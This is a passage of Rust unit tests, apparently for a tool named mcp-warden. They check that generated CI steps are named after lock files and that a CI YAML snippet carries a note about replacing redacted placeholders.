                format!("{}\n", check_command(&s.spec, &lock))
            })
            .collect();
        assert_eq!(runs, expected);
        for (s, step) in r.uncovered().zip(&steps[2..]) {
            let lock = s.lock_name.clone().unwrap_or_default();
            assert_eq!(
                step["name"].as_str(),
                Some(format!("Check {lock}").as_str())
            );
        }
    }

    #[test]
    fn ci_snippet_notes_redactions() {
        let snippet = ci_snippet(&[(
            "s.warden.lock".into(),
            "mcp-warden check --lock s.warden.lock x '<REDACTED>'".into(),
        )]);
        assert!(snippet.contains("# Replace each <REDACTED> placeholder"));
        let docs =
            yaml_rust2::YamlLoader::load_from_str(&snippet).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            docs[0]["jobs"]["mcp-check"]["steps"].as_vec().map(Vec::len),
            Some(3)
        );
    }
}
